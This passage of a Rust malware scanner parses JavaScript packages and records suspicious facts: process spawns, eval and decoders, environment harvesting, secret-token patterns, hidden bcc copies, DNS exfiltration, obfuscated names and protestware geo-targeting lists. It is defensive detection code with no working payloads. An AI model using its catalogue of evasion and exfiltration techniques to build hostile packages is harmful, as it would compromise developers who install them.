//! One pass over a file's syntax tree, collecting what the rules judge.
//!
//! The scanner records facts (a call, a string, a loop), each with where it is; it
//! does not decide. Matching is syntactic and deliberately shallow: no data flow, no
//! evaluation. What obfuscation hides from it (a module name built at runtime) is
//! itself a fact: a computed `require`, a decoder, a call through a computed member.

use std::collections::HashSet;

use super::flow::{FileFlow, FlowBuilder};
use super::strings::Markers;
use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, AssignmentExpression, BinaryExpression, BindingPattern,
    CallExpression, DoWhileStatement, Expression, ForInStatement, ForStatement, Function,
    IdentifierReference, ImportDeclaration, ImportDeclarationSpecifier, ImportExpression,
    NewExpression, ObjectPropertyKind, RegExpLiteral, StaticMemberExpression, StringLiteral,
    TemplateLiteral, VariableDeclarator, WhileStatement,
};
use oxc_ast_visit::{Visit, walk};
use oxc_parser::{ParseOptions, Parser, ParserReturn};
use oxc_span::{GetSpan, SourceType, Span};
use oxc_syntax::operator::{BinaryOperator, UnaryOperator};
use oxc_syntax::scope::ScopeFlags;

/// A place in the file: line and the source text there.
#[derive(Clone, Debug)]
pub(crate) struct Site {
    pub(crate) line: u32,
    pub(crate) text: String,
}

/// What one file does, as far as its syntax shows.
#[expect(
    clippy::struct_excessive_bools,
    reason = "one flag per fact the rules read"
)]
#[derive(Debug, Default)]
pub(crate) struct FileFacts {
    pub(crate) parse_error: Option<String>,
    /// The scan itself failed: what the file does is unknown.
    pub(crate) crashed: bool,
    /// Static module specifiers: `require('x')`, `import 'x'`, `import('x')`.
    pub(crate) requires: Vec<(String, u32)>,
    /// `require(expr)` and `import(expr)` with a computed specifier.
    pub(crate) computed_requires: Vec<Site>,
    /// Calls that start processes, with the command when it is a literal.
    pub(crate) spawns: Vec<(Site, Option<String>)>,
    /// Processes started detached (`detached: true`) with code given inline
    /// (`node -e …`): code that keeps running, unseen, after its parent is gone.
    /// With whether the call is at the top level (outside every function).
    pub(crate) detached_inline: Vec<(Site, bool)>,
    /// Mail fields that copy a message, unseen, to an address written in the code
    /// (`bcc: 'x@y.example'`), with the address.
    pub(crate) fixed_blind_copies: Vec<(Site, String)>,
    /// `eval`, `new Function`, `vm.*`, `module._compile`, `new module.constructor`.
    pub(crate) dynamic: Vec<(Site, &'static str)>,
    /// Decoders: base64/hex `Buffer.from`, `atob`, XOR over char codes, reversed
    /// strings, `createDecipher`.
    pub(crate) decoders: Vec<(Site, &'static str)>,
    /// Every string literal and template part, with its line.
    pub(crate) strings: Vec<(String, u32)>,
    /// For each of `strings`: the words the rules look for, found in one pass.
    pub(crate) markers: Vec<Markers>,
    /// For each of `strings`: what it hides when decoded (how, and the text).
    pub(crate) hidden: Vec<Option<(&'static str, String)>>,
    /// The distinct hosts URLs in `strings` name, lowercase, first seen first (at
    /// most [`MAX_HOSTS`]).
    pub(crate) hosts: Vec<String>,
    /// A bundle or minified file, judged as one rather than as hand-written code.
    pub(crate) bundle: bool,
    /// A bundle whose flow joins more than its code does (a large one).
    pub(crate) flow_joins: bool,
    /// Large base64-only literals: (length, entropy of a sample, line).
    pub(crate) data_literals: Vec<(usize, f64, u32)>,
    /// `fetch(...)`, `new XMLHttpRequest`, `new WebSocket`.
    pub(crate) network_calls: Vec<Site>,
    /// `process.env` used whole: stringified, enumerated, iterated.
    pub(crate) env_harvest: Vec<Site>,
    /// Names read from `process.env.NAME`.
    pub(crate) env_reads: Vec<(String, u32)>,
    /// File writes, renames, copies and deletions: (function, first argument text).
    pub(crate) fs_changes: Vec<(Site, String, String)>,
    /// `while (true)`, `for (;;)` at the top level with no `break`.
    pub(crate) top_level_loops: Vec<Site>,
    /// Assignments over `fetch`, `XMLHttpRequest.prototype.*` or `window.ethereum`.
    pub(crate) hooks: Vec<Site>,
    /// Regular expressions that match wallet addresses.
    pub(crate) wallet_patterns: Vec<Site>,
    /// Patterns for secret tokens (GitHub, npm, AWS, Slack keys), with the kind each
    /// finds: a harvester greps files and the environment with a list of them.
    pub(crate) token_patterns: Vec<(&'static str, Site)>,
    /// Distinct `_0x1a2b`-style identifiers.
    pub(crate) hex_identifiers: usize,
    /// `Function(…)`/`eval(…)` of a string literal of [`LITERAL_CODE`] bytes or more:
    /// where, how long, and whether it hides invisible characters (zero-width
    /// joiners in names). The first.
    pub(crate) literal_code: Option<(Site, usize, bool)>,
    /// Identifiers spelling plain ASCII names with Unicode escapes (`\u0065val`):
    /// no purpose but to hide a name from whoever searches the text. The first.
    pub(crate) escaped_identifier: Option<(Site, String)>,
    /// Distinct declared names of five characters or more, and how many of them look
    /// generated (`XNjfXHs`, `u8_bNby`): obfuscators rename everything so.
    pub(crate) long_names: usize,
    pub(crate) random_names: usize,
    /// Calls through a computed member with a computed key (`m[d('x')](...)`).
    pub(crate) computed_calls: usize,
    /// DNS lookups of names built at runtime (data smuggled out in the name).
    pub(crate) dns_lookups: Vec<Site>,
    /// `os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`: host fingerprints.
    pub(crate) host_info: Vec<Site>,
    /// Network calls whose arguments name key material (`privateKey`, `mnemonic`).
    pub(crate) key_exfiltration: Vec<Site>,
    /// Literals naming one country's time zones, locales or name, in a file that
    /// also reads where the machine is (`Intl…timeZone`, the locale): geo-targeting.
    pub(crate) country_targets: Vec<Site>,
    /// Literals naming those countries (compared with a geolocation answer).
    pub(crate) country_names: Vec<Site>,
    /// Reads the machine's time zone or locale.
    pub(crate) reads_locale: bool,
    /// Turns off TLS certificate checks for the whole process
    /// (`process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'`) or for a request
    /// (`rejectUnauthorized: false`): a server without a real certificate.
    pub(crate) tls_off: bool,
    /// Shows something to the user at once (`alert`, `window.open`).
    pub(crate) shows_user: bool,
    /// Where values flow in this file, to be linked with the package's other files.
    pub(crate) flow: FileFlow,
    /// The deepest nesting of brackets, when it was too deep to parse.
    pub(crate) too_deep: Option<usize>,
}

/// A string evaluated as code from this length on is a program kept as text.
pub(crate) const LITERAL_CODE: usize = 4096;

/// Nesting deeper than this is not parsed: the deepest real code seen (a compiled
/// interpreter in `pdfjs-dist`) nests about 5,000 brackets deep, counted on the raw
/// text; a file four times deeper is made to exhaust the parser.
pub(crate) const MAX_NESTING: usize = 20_000;

/// Files nesting deeper than this are parsed on a thread of their own, with a stack
/// sized for their depth: the parser and the walks over the tree recurse once per
/// level (about 2.4 KiB a level, measured on nested arrow functions).
const DEEP_NESTING: usize = 256;

/// Stack per level of nesting for a deep file's thread, with a margin over the
/// measured 2.4 KiB, plus a base for everything else.
const STACK_PER_LEVEL: usize = 8 * 1024;
const STACK_BASE: usize = 8 * 1024 * 1024;

/// The deepest nesting of brackets in `source`, counted on the raw text (strings
/// and comments included: an over-estimate only makes the check stricter), stopping
/// as soon as `limit` is passed.
pub(crate) fn nesting_depth(source: &str, limit: usize) -> usize {
    let mut depth = 0usize;
    let mut deepest = 0usize;
    for byte in source.bytes() {
        match byte {
            b'(' | b'[' | b'{' => {
                depth += 1;
                if depth > deepest {
                    deepest = depth;
                    if deepest > limit {
                        return deepest;
                    }
                }
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    deepest
}

/// Parses `source` and collects its facts. Parsing is tolerant: a file with syntax
/// errors yields what the parser recovered plus `parse_error`. A file nested deeper
/// than [`MAX_NESTING`] is not parsed; one deeper than [`DEEP_NESTING`] is parsed on
/// a thread whose stack fits it, whatever thread asked.
pub(crate) fn scan(path: &str, source: &str) -> FileFacts {
    let depth = nesting_depth(source, MAX_NESTING);
    if depth > MAX_NESTING {
        return FileFacts {
            parse_error: Some(format!("brackets nest more than {MAX_NESTING} deep")),
            too_deep: Some(depth),
            ..FileFacts::default()
        };
    }
    if depth <= DEEP_NESTING {
        return scan_on_this_thread(path, source);
    }
    let stack = STACK_BASE + depth * STACK_PER_LEVEL;
    std::thread::scope(|scope| {
        std::thread::Builder::new()
            .name("airlock-deep-scan".to_owned())
            .stack_size(stack)
            .spawn_scoped(scope, || scan_on_this_thread(path, source))
            .ok()
            .and_then(|thread| thread.join().ok())
    })
    .unwrap_or_else(|| FileFacts {
        parse_error: Some(format!(
            "brackets nest {depth} deep and no thread with a {} MiB stack could be started to parse them",
            stack >> 20
        )),
        too_deep: Some(depth),
        ..FileFacts::default()
    })
}

fn scan_on_this_thread(path: &str, source: &str) -> FileFacts {
    // One arena per thread, reset between files: packages with thousands of files
    // would otherwise allocate and free an arena for each.
    thread_local! {
        static ARENA: std::cell::RefCell<Allocator> = std::cell::RefCell::new(Allocator::default());
    }
    ARENA.with(|arena| match arena.try_borrow_mut() {
        Ok(mut allocator) => {
            allocator.reset();
            scan_in(&allocator, path, source)
        }
        // Re-entered (a scan inside a scan): use a fresh arena.
        Err(_) => scan_in(&Allocator::default(), path, source),
    })
}

/// The file parsed, and the source type it parsed as: old CommonJS is sloppy-mode
/// script (`package`, `let` or `yield` as names, octal escapes), so what does not
/// parse as a module may parse as a script.
fn parse<'a>(
    allocator: &'a Allocator,
    path: &str,
    source: &'a str,
) -> (ParserReturn<'a>, SourceType) {
    let source_type = source_type(path);
    let parsed = parser(allocator, source, source_type).parse();
    if (parsed.panicked || !parsed.diagnostics.is_empty())
        && source_type.is_javascript()
        && !path.ends_with(".mjs")
    {
        let script = SourceType::script().with_jsx(true);
        let sloppy = parser(allocator, source, script).parse();
        if !sloppy.panicked && sloppy.diagnostics.len() < parsed.diagnostics.len() {
            return (sloppy, script);
        }
    }
    (parsed, source_type)
}

/// Node runs a CommonJS file inside a function, so a `return` at its top level is
/// allowed (and used to stop early); the parser is told so, except for modules.
fn parser<'a>(allocator: &'a Allocator, source: &'a str, source_type: SourceType) -> Parser<'a> {
    Parser::new(allocator, source, source_type).with_options(ParseOptions {
        allow_return_outside_function: !source_type.is_module(),
        ..ParseOptions::default()
    })
}

fn scan_in(allocator: &Allocator, path: &str, source: &str) -> FileFacts {
    let (mut parsed, source_type) = parse(allocator, path, source);
    // A literal written in pieces is read as the one literal it is: the pieces are
    // joined in the text, which is parsed again (only when it still parses cleanly).
    let mut source = source;
    if !parsed.panicked
        && parsed.diagnostics.is_empty()
        && let Some(folded) = super::fold::folded_source(source, &parsed.program)
    {
        let folded: &str = allocator.alloc_str(&folded);
        let again = parser(allocator, folded, source_type).parse();
        if !again.panicked && again.diagnostics.is_empty() {
            (parsed, source) = (again, folded);
        }
    }
    let mut scanner = Scanner {
        source,
        lines: LineIndex::new(source),
        facts: FileFacts::default(),
        function_depth: 0,
        child_process_aliases: HashSet::new(),
        process_managers: HashSet::new(),
        spawn_functions: HashSet::new(),
        hex_identifiers: HashSet::new(),
        names: HashSet::new(),
    };
    if parsed.panicked || !parsed.diagnostics.is_empty() {
        scanner.facts.parse_error = Some(
            parsed
                .diagnostics
                .first()
                .map_or_else(|| "the parser gave up".to_owned(), ToString::to_string),
        );
    }
    scanner.visit_program(&parsed.program);
    let mut facts = scanner.facts;
    // The parser stops at the first error it cannot recover from; the strings after
    // it still say what the file would do.
    if facts.parse_error.is_some() {
        let known: HashSet<(String, u32)> = facts.strings.iter().cloned().collect();
        for (text, line) in lexical_strings(source, &LineIndex::new(source)) {
            if text.len() >= 4 && !known.contains(&(text.clone(), line)) {
                facts.strings.push((text, line));
            }
        }
    }
    let semantic = oxc_semantic::SemanticBuilder::new().build(&parsed.program);
    let scoping = semantic.semantic.scoping();
    let line_of = |offset: u32| scanner.lines.line(offset);
    let mut builder = FlowBuilder::new(source, scoping, &line_of);
    // Obfuscators' string tables: only files with their `_0x1a2b` names, or with
    // what their rotation loop ends in once renamed (`n.push(n.shift())`; other
    // `….shift())` match too, and only cost the walk), pay for the extra walk.
    let has = |needle: &[u8]| memchr::memmem::find(source.as_bytes(), needle).is_some();
    if !scanner.hex_identifiers.is_empty()
        || has(b"module.exports = require(")
        || has(b"module.exports=require(")
        || has(b"shift())")
        || has(b"'shift']())")
        || has(b"\"shift\"]())")
    {
        builder.use_tables(super::tables::StringTables::of(&parsed.program));
    }
    builder.note_fields(&parsed.program);
    builder.visit_program(&parsed.program);
    facts.flow = builder.finish();
    facts.hex_identifiers = scanner.hex_identifiers.len();
    facts.long_names = scanner.names.len();
    facts.random_names = scanner
        .names
        .iter()
        .filter(|name| random_name(name))
        .count();
    // Read each string for the rules here, on the scanning thread: judging the files
    // comes after the reach of every file is known, one file after the other.
    facts.markers = facts
        .strings
        .iter()
        .map(|(text, _)| super::strings::markers(text))
        .collect();
    facts.hidden = facts
        .strings
        .iter()
        .zip(&facts.markers)
        .map(|((text, _), found)| super::strings::hidden_text_with(text, found))
        .collect();
    let mut seen = HashSet::new();
    for (text, _) in &facts.strings {
        if seen.len() >= MAX_HOSTS {
            break;
        }
        if text.contains("http") {
            for address in super::strings::addresses(text) {
                let host = address.host.to_ascii_lowercase();
                if seen.len() < MAX_HOSTS && seen.insert(host.clone()) {
                    facts.hosts.push(host);
                }
            }
        }
    }
    facts
}

/// The string literals of a file read as text, for files that do not parse: quotes,
/// backslash escapes and comments are honoured, nothing else.
fn lexical_strings(source: &str, lines: &LineIndex) -> Vec<(String, u32)> {
    let bytes = source.as_bytes();
    let mut found = Vec::new();
    let mut index = 0;
    while index < bytes.len() && found.len() < 100_000 {
        match bytes[index] {
            b'/' if bytes.get(index + 1) == Some(&b'/') => {
                index = memchr::memchr(b'\n', &bytes[index..]).map_or(bytes.len(), |at| index + at);
            }
            b'/' if bytes.get(index + 1) == Some(&b'*') => {
                index = memchr::memmem::find(&bytes[index + 2..], b"*/")
                    .map_or(bytes.len(), |at| index + at + 4);
            }
            quote @ (b'"' | b'\'' | b'`') => {
                let start = index + 1;
                let mut end = start;
                while end < bytes.len()
                    && bytes[end] != quote
                    && (quote == b'`' || bytes[end] != b'\n')
                {
                    end += if bytes[end] == b'\\' { 2 } else { 1 };
                }
                let end = end.min(bytes.len());
                if let Some(text) = source.get(start..end) {
                    let offset = u32::try_from(start).unwrap_or(u32::MAX);
                    found.push((text.to_owned(), lines.line(offset)));
                }
                index = end + 1;
            }
            _ => index += 1,
        }
    }
    found
}

/// Time zones, locales and names that protestware has singled out (Russia and
/// Belarus, 2022): a literal that is one of them.
pub(crate) fn targeted_zone(text: &str) -> bool {
    const ZONES: [&str; 30] = [
        "Europe/Moscow",
        "Europe/Kaliningrad",
        "Europe/Samara",
        "Europe/Volgograd",
        "Europe/Saratov",
        "Europe/Ulyanovsk",
        "Europe/Astrakhan",
        "Europe/Kirov",
        "Europe/Simferopol",
        "Europe/Minsk",
        "Asia/Yekaterinburg",
        "Asia/Omsk",
        "Asia/Novosibirsk",
        "Asia/Barnaul",
        "Asia/Tomsk",
        "Asia/Novokuznetsk",
        "Asia/Krasnoyarsk",
        "Asia/Irkutsk",
        "Asia/Chita",
        "Asia/Yakutsk",
        "Asia/Khandyga",
        "Asia/Vladivostok",
        "Asia/Ust-Nera",
        "Asia/Magadan",
        "Asia/Sakhalin",
        "Asia/Srednekolymsk",
        "Asia/Kamchatka",
        "Asia/Anadyr",
        "W-SU",
        "MSK",
    ];
    ZONES.contains(&text)
}

/// Country names an IP-geolocation answer is compared with.
pub(crate) fn targeted_country(text: &str) -> bool {
    matches!(
        text,
        "Russia" | "Belarus" | "russia" | "belarus" | "Russian Federation" | "RU" | "BY"
    )
}

/// How many hosts an analysis keeps.
pub(crate) const MAX_HOSTS: usize = 1000;

/// Embedded data: a large literal of nothing but base64 characters (an inlined
/// WebAssembly module, a font). It cannot hold a URL, a path or code, so the rules get
/// its size and entropy instead of megabytes to search.
fn is_embedded_data(value: &str) -> bool {
    value.len() >= 64 * 1024
        && value.bytes().all(|byte| {
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'\n' | b'\r')
        })
}

fn source_type(path: &str) -> SourceType {
    let extension = path.rsplit_once('.').map_or("", |(_, extension)| extension);
    match extension {
        "mjs" => SourceType::mjs(),
        "cjs" => SourceType::cjs(),
        "ts" | "mts" | "cts" => SourceType::ts(),
        "jsx" => SourceType::jsx(),
        "tsx" => SourceType::tsx(),
        // Most packages ship CommonJS in `.js`; JSX is allowed so that React sources
        // parse, and module syntax is accepted where it appears.
        _ => SourceType::unambiguous().with_jsx(true),
    }
}

/// Line numbers from byte offsets.
struct LineIndex {
    starts: Vec<u32>,
}

impl LineIndex {
    fn new(source: &str) -> Self {
        let mut starts = vec![0];
        starts.extend(
            memchr::memchr_iter(b'\n', source.as_bytes())
                .map(|offset| u32::try_from(offset + 1).unwrap_or(u32::MAX)),
        );
        Self { starts }
    }

    fn line(&self, offset: u32) -> u32 {
        let index = self.starts.partition_point(|start| *start <= offset);
        u32::try_from(index).unwrap_or(u32::MAX)
    }
}

const SPAWN_FUNCTIONS: [&str; 7] = [
    "exec",
    "execSync",
    "spawn",
    "spawnSync",
    "execFile",
    "execFileSync",
    "fork",
];

/// Modules that run a script as a (daemon) process: `start` spawns it.
const PROCESS_MANAGERS: [&str; 3] = ["pm2", "forever", "forever-monitor"];

/// Spawn function names distinctive enough to count even when the module was
/// loaded through a computed name.
const DISTINCT_SPAWN_FUNCTIONS: [&str; 4] = ["execSync", "spawnSync", "execFileSync", "execFile"];

struct Scanner<'s> {
    source: &'s str,
    lines: LineIndex,
    facts: FileFacts,
    function_depth: u32,
    /// Names bound to the `child_process` module.
    child_process_aliases: HashSet<String>,
    /// Names bound to a process manager (`const pm2 = require('pm2')`).
    process_managers: HashSet<String>,
    /// Names bound to its spawning functions.
    spawn_functions: HashSet<String>,
    hex_identifiers: HashSet<String>,
    names: HashSet<String>,
}

impl Scanner<'_> {
    fn token_pattern(&mut self, pattern: &str, span: Span) {
        if self.facts.token_patterns.len() >= 64 {
            return;
        }
        for kind in super::strings::token_kinds(pattern) {
            let site = self.site(span);
            self.facts.token_patterns.push((kind, site));
        }
    }

    fn site(&self, span: Span) -> Site {
        let start = span.start as usize;
        let end = (span.end as usize).min(self.source.len()).min(start + 200);
        let text = self
            .source
            .get(start..end)
            .map_or_else(String::new, str::to_owned);
        Site {
            line: self.lines.line(span.start),
            text,
        }
    }

    fn text(&self, span: Span) -> &str {
        self.source
            .get(span.start as usize..span.end as usize)
            .unwrap_or("")
    }

    /// A callee as written, with escaped names (`\u0065val`) spelled out.
    fn callee_text(&self, callee: &Expression<'_>) -> String {
        let text = self.text(callee.span());
        if !text.contains('\\') {
            return text.to_owned();
        }
        spelled_name(callee).unwrap_or_else(|| text.to_owned())
    }

    /// Code evaluated from a long string literal: the program kept as text.
    fn note_literal_code(&mut self, arguments: &[Argument<'_>], span: Span) {
        let longest = arguments
            .iter()
            .filter_map(|argument| match argument.as_expression()? {
                Expression::StringLiteral(literal) => Some(literal.value.as_str()),
                Expression::TemplateLiteral(template) if template.expressions.is_empty() => {
                    template
                        .quasis
                        .first()?
                        .value
                        .cooked
                        .as_ref()
                        .map(oxc_ast::ast::Str::as_str)
                }
                _ => None,
            })
            .max_by_key(|text| text.len());
        if let Some(text) = longest.filter(|text| text.len() >= LITERAL_CODE)
            && self.facts.literal_code.is_none()
        {
            let invisible = text.chars().any(|c| {
                matches!(
                    c,
                    '\u{200B}' | '\u{200C}' | '\u{200D}' | '\u{2060}' | '\u{FEFF}'
                )
            });
            self.facts.literal_code = Some((self.site(span), text.len(), invisible));
        }
    }

    fn note_identifier(&mut self, name: &str, span: Span) {
        if is_hex_identifier(name) && self.hex_identifiers.len() < 10_000 {
            self.hex_identifiers.insert(name.to_owned());
        }
        if self.facts.escaped_identifier.is_none()
            && name.is_ascii()
            && self.text(span).contains('\\')
        {
            self.facts.escaped_identifier = Some((self.site(span), name.to_owned()));
        }
    }

    fn note_module(&mut self, specifier: &str, span: Span) {
        let line = self.lines.line(span.start);
        self.facts.requires.push((specifier.to_owned(), line));
    }

    fn bind_module(&mut self, specifier: &str, binding: &BindingPattern<'_>) {
        if PROCESS_MANAGERS.contains(&specifier)
            && let BindingPattern::BindingIdentifier(identifier) = binding
        {
            self.process_managers
                .insert(identifier.name.as_str().to_owned());
            return;
        }
        if strip_node_prefix(specifier) != "child_process" {
            return;
        }
        match binding {
            BindingPattern::BindingIdentifier(identifier) => {
                self.child_process_aliases
                    .insert(identifier.name.as_str().to_owned());
            }
            BindingPattern::ObjectPattern(pattern) => {
                for property in &pattern.properties {
                    if let BindingPattern::BindingIdentifier(local) = &property.value {
                        self.spawn_functions.insert(local.name.as_str().to_owned());
                    }
                }
            }
            _ => {}
        }
    }

    fn is_spawn_call(&self, call: &CallExpression<'_>) -> bool {
        match &call.callee {
            Expression::Identifier(identifier) => {
                self.spawn_functions.contains(identifier.name.as_str())
            }
            callee => {
                let Some(member) = callee.as_member_expression() else {
                    return false;
                };
                let Some(property) = member.static_property_name() else {
                    return false;
                };
                // `pm2.start({ script: __dirname + '/app.js', daemon: true })`:
                // a process manager runs the script as a daemon.
                if matches!(property, "start" | "startDaemon")
                    && matches!(member.object().without_parentheses(), Expression::Identifier(object) if self.process_managers.contains(object.name.as_str()))
                {
                    return true;
                }
                if !SPAWN_FUNCTIONS.contains(&property) {
                    return false;
                }
                match member.object().without_parentheses() {
                    Expression::Identifier(object) => {
                        self.child_process_aliases.contains(object.name.as_str())
                            || (DISTINCT_SPAWN_FUNCTIONS.contains(&property)
                                && !self.facts.computed_requires.is_empty())
                    }
                    Expression::CallExpression(inner) => {
                        inner.common_js_require().is_some_and(|module| {
                            strip_node_prefix(module.value.as_str()) == "child_process"
                        })
                    }
                    _ => DISTINCT_SPAWN_FUNCTIONS.contains(&property),
                }
            }
        }
    }
}

fn strip_node_prefix(specifier: &str) -> &str {
    specifier.strip_prefix("node:").unwrap_or(specifier)
}

/// A name that reads as generated rather than written: no pronounceable parts
/// (few vowels) split by irregular case and digits (`XNjfXHs`, `u8_bNby`, `tt7kLh9`),
/// unlike `getElementById`, `utf8Decode` or `HTMLElement`.
pub(crate) fn random_name(name: &str) -> bool {
    if name.len() < 5 || name.len() > 16 || name.starts_with("_0x") {
        return false;
    }
    let letters: Vec<char> = name.chars().filter(char::is_ascii_alphabetic).collect();
    // Words people write without vowels (`HttpOverHttp2`, `XmlCtx`) are words: a name
    // that looks scrambled is weighed again without them (rarely: most names pass).
    scrambled(name, &letters) && {
        let spelled: Vec<char> = camel_words(name)
            .filter(|word| {
                !VOWELLESS_WORDS
                    .iter()
                    .any(|known| known.eq_ignore_ascii_case(word))
            })
            .flat_map(str::chars)
            .filter(char::is_ascii_alphabetic)
            .collect();
        scrambled(name, &spelled)
    }
}

/// Whether `letters` (of `name`) read as an obfuscator's output: mixed case that
/// switches every character or two, and few vowels.
fn scrambled(name: &str, letters: &[char]) -> bool {
    if letters.len() < 4 {
        return false;
    }
    let vowels = letters
        .iter()
        .filter(|c| matches!(c.to_ascii_lowercase(), 'a' | 'e' | 'i' | 'o' | 'u'))
        .count();
    let upper = letters.iter().filter(|c| c.is_ascii_uppercase()).count();
    let lower = letters.len() - upper;
    // Case changes inside the name: camelCase has one per word; generated names
    // switch every character or two.
    let chars: Vec<char> = name.chars().collect();
    let switches = chars
        .windows(2)
        .filter(|pair| {
            (pair[0].is_ascii_lowercase() && pair[1].is_ascii_uppercase())
                || (pair[0].is_ascii_uppercase() && pair[1].is_ascii_lowercase())
                || (pair[0].is_ascii_digit() != pair[1].is_ascii_digit())
        })
        .count();
    let inner_digit = chars.windows(3).any(|window| {
        window[0].is_ascii_alphabetic()
            && window[1].is_ascii_digit()
            && (window[2].is_ascii_alphabetic() || window[2] == '_')
    });
    let mixed = upper > 0 && lower > 0;
    let few_vowels = vowels * 5 < letters.len();
    mixed
        && switches * 3 >= name.len()
        && (few_vowels || (inner_digit && vowels * 3 < letters.len()))
}

/// Abbreviations written without vowels.
const VOWELLESS_WORDS: [&str; 24] = [
    "http", "https", "xml", "html", "css", "svg", "url", "src", "dst", "ctx", "msg", "btn", "cfg",
    "cmd", "pkg", "tcp", "udp", "dns", "ssl", "tls", "rpc", "sql", "rgb", "str",
];

/// A name's words: split where lower case turns upper, and at digits and underscores.
fn camel_words(name: &str) -> impl Iterator<Item = &str> {
    let bytes = name.as_bytes();
    let mut cuts = vec![0];
    for index in 1..bytes.len() {
        let (before, here) = (bytes[index - 1], bytes[index]);
        if before.is_ascii_lowercase() && here.is_ascii_uppercase()
            || before.is_ascii_digit() != here.is_ascii_digit()
            || here == b'_'
            || before == b'_'
        {
            cuts.push(index);
        }
    }
    cuts.push(bytes.len());
    let words: Vec<&str> = cuts
        .windows(2)
        .map(|pair| &name[pair[0]..pair[1]])
        .collect();
    words.into_iter()
}

/// `_0x1a2b`, and the same with a short prefix (`a0_0x5400`): obfuscator names.
fn is_hex_identifier(name: &str) -> bool {
    let Some(at) = name.find("_0x") else {
        return false;
    };
    let (prefix, digits) = (&name[..at], &name[at + 3..]);
    prefix.len() <= 4
        && prefix.bytes().all(|byte| byte.is_ascii_alphanumeric())
        && digits.len() >= 3
        && digits.bytes().all(|byte| byte.is_ascii_hexdigit())
}

fn literal_argument(call: &CallExpression<'_>, index: usize) -> Option<String> {
    match call.arguments.get(index)? {
        Argument::StringLiteral(literal) => Some(literal.value.as_str().to_owned()),
        Argument::TemplateLiteral(template) => template
            .single_quasi()
            .map(|quasi| quasi.as_str().to_owned())
            .or_else(|| {
                // A template with holes: its literal parts show the command's shape.
                Some(
                    template
                        .quasis
                        .iter()
                        .map(|quasi| quasi.value.raw.as_str())
                        .collect::<Vec<_>>()
                        .join("…"),
                )
            }),
        _ => None,
    }
}

/// A call that starts a detached process whose code is given inline: an options
/// object with `detached: true`, and `-e`/`--eval` among the arguments (an array's
/// element, or a word of the literal command).
fn detached_inline(call: &CallExpression<'_>, command: Option<&str>) -> bool {
    let inline_flag = |text: &str| matches!(text, "-e" | "--eval" | "-p" | "--print");
    let detached = call.arguments.iter().any(|argument| {
        let Argument::ObjectExpression(options) = argument else {
            return false;
        };
        options.properties.iter().any(|property| {
            let ObjectPropertyKind::ObjectProperty(property) = property else {
                return false;
            };
            property.key.static_name().is_some_and(|key| key == "detached")
                && match property.value.without_parentheses() {
                    Expression::BooleanLiteral(value) => value.value,
                    // `!0`, as minifiers write `true`.
                    Expression::UnaryExpression(unary) => {
                        unary.operator == UnaryOperator::LogicalNot
                            && matches!(&unary.argument, Expression::NumericLiteral(number) if number.value == 0.0)
                    }
                    _ => false,
                }
        })
    });
    let inline = call.arguments.iter().any(|argument| match argument {
        Argument::ArrayExpression(array) => array.elements.iter().any(|element| {
            matches!(element, ArrayExpressionElement::StringLiteral(literal) if inline_flag(literal.value.as_str()))
        }),
        _ => false,
    }) || command.is_some_and(|command| command.split_whitespace().any(inline_flag));
    detached && inline
}

/// `a.b.c` from the syntax tree: names as the engine reads them, escapes decoded.
fn spelled_name(expression: &Expression<'_>) -> Option<String> {
    match expression.without_parentheses() {
        Expression::Identifier(identifier) => Some(identifier.name.as_str().to_owned()),
        Expression::StaticMemberExpression(member) => Some(format!(
            "{}.{}",
            spelled_name(&member.object)?,
            member.property.name.as_str()
        )),
        _ => None,
    }
}

/// The package file a path built from the file's own directory names, as a
/// relative specifier: `path.join(__dirname, 'lib', 'x')` and `path.resolve(…)`
/// (or a destructured `join`), `__dirname + '/lib/x'`, `` `${__dirname}/lib/x` ``.
fn own_directory_path(expression: &Expression<'_>) -> Option<String> {
    let is_dirname = |expression: &Expression<'_>| matches!(expression.without_parentheses(), Expression::Identifier(identifier) if identifier.name == "__dirname");
    let relative = |rest: &str| {
        let rest = rest.trim_start_matches('/');
        if rest.starts_with("../") || rest.starts_with("./") {
            rest.to_owned()
        } else {
            format!("./{rest}")
        }
    };
    match expression.without_parentheses() {
        Expression::CallExpression(call) => {
            let joins = match call.callee.without_parentheses() {
                Expression::StaticMemberExpression(member) => {
                    matches!(member.property.name.as_str(), "join" | "resolve")
                }
                Expression::Identifier(identifier) => {
                    matches!(identifier.name.as_str(), "join" | "resolve")
                }
                _ => false,
            };
            let mut arguments = call.arguments.iter();
            let first = arguments.next()?.as_expression()?;
            if !joins || !is_dirname(first) {
                return None;
            }
            let parts: Vec<&str> = arguments
                .map(|argument| match argument {
                    Argument::StringLiteral(literal) => Some(literal.value.as_str()),
                    _ => None,
                })
                .collect::<Option<_>>()?;
            (!parts.is_empty()).then(|| relative(&parts.join("/")))
        }
        Expression::BinaryExpression(binary)
            if binary.operator == BinaryOperator::Addition && is_dirname(&binary.left) =>
        {
            match binary.right.without_parentheses() {
                Expression::StringLiteral(literal) if literal.value.starts_with('/') => {
                    Some(relative(literal.value.as_str()))
                }
                _ => None,
            }
        }
        Expression::TemplateLiteral(template)
            if template.expressions.len() == 1
                && is_dirname(&template.expressions[0])
                && template
                    .quasis
                    .first()
                    .is_some_and(|quasi| quasi.value.raw.is_empty()) =>
        {
            let rest = template.quasis.get(1)?.value.cooked.as_ref()?.as_str();
            rest.starts_with('/').then(|| relative(rest))
        }
        _ => None,
    }
}

/// The address of a `bcc` field written in the code (`Bcc: 'x@y.example'`, a list
/// of them, `'Name <x@y.example>'`, `'a@b.example, c@d.example'`, or literals
/// joined with `+`): every message built with it is copied to that mailbox
/// without its recipients seeing.
fn fixed_blind_copy(property: &oxc_ast::ast::ObjectProperty<'_>) -> Option<String> {
    if !property
        .key
        .static_name()
        .is_some_and(|name| name.eq_ignore_ascii_case("bcc"))
    {
        return None;
    }
    let mut written = Vec::new();
    literal_texts(&property.value, &mut written)?;
    written
        .iter()
        .flat_map(|text| text.split([',', ';']))
        .find_map(mail_address)
}

/// The text of a string literal or of the literal elements of an array (literals
/// joined with `+` arrive as one, from `fold`); None when the value is not written
/// in the code.
fn literal_texts(expression: &Expression<'_>, out: &mut Vec<String>) -> Option<()> {
    match expression.without_parentheses() {
        Expression::StringLiteral(literal) => out.push(literal.value.to_string()),
        Expression::TemplateLiteral(template) => {
